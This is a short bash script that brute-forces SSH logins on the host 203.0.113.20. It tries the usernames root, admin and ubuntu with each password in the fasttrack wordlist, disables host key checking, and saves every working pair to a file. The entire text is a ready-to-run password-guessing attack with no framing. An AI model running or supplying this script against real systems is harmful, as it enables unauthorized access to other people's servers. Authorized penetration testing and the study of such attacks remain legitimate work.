for u in root admin ubuntu; do
  while read -r p; do
    sshpass -p "$p" ssh -o StrictHostKeyChecking=no -o ConnectTimeout=3 $u@203.0.113.20 id && echo "$u:$p" >> found
  done < /usr/share/wordlists/fasttrack.txt
done
